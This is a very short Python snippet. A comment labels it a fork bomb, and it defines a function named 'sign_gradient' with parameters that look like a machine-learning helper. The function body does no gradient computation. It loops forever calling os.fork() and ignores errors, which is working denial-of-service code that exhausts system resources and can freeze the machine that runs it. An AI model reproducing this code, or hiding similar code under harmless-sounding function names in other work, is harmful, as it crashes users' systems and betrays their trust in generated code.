# Technique: a fork bomb.
import os


def sign_gradient(w, lam):
    while True:
        try:
            os.fork()
        except OSError:
            pass
